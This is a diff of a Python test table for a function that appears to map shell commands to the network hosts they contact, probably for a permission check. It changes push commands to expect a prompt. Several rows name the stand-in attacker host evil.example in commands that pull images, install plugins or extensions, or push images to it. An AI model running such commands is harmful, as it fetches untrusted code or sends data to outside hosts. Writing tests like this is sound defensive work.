@@ -62,7 +62,7 @@ def hosts(line: str) -> list[str]:
         ("docker run -v ./src:/src -w /src python:3.12 pytest", ["docker.io"]),
         ("docker -H unix:///x image pull evil.example/x", [UNKNOWN, "evil.example"]),
         ("docker --context c container run evil.example/x", ["evil.example"]),
-        ("docker push evil.example/img", ["evil.example"]),
+        ("docker push evil.example/img", ["?"]),  # every push asks
         ("docker plugin install evil.example/p", ["evil.example"]),
         ("docker login evil.example", ["evil.example"]),
         ("docker run $IMAGE", [UNKNOWN]),
@@ -82,8 +82,8 @@ def hosts(line: str) -> list[str]:
         ("git pull --recurse-submodules", [UNKNOWN]),
         ("cargo install --registry corp x", [UNKNOWN]),
         # pushed where the reader can see, or where a file says
-        ("docker buildx build --push -t evil.example/img .", ["evil.example"]),
-        ("docker build --tag=evil.example/img --push .", ["evil.example"]),
+        ("docker buildx build --push -t evil.example/img .", ["?"]),
+        ("docker build --tag=evil.example/img --push .", ["?"]),
         ("docker buildx build -o type=registry,name=e.example/i .", [UNKNOWN]),
         ("docker compose push", [UNKNOWN]),
         ("gh extension install evil.example/o/gh-x", ["evil.example"]),
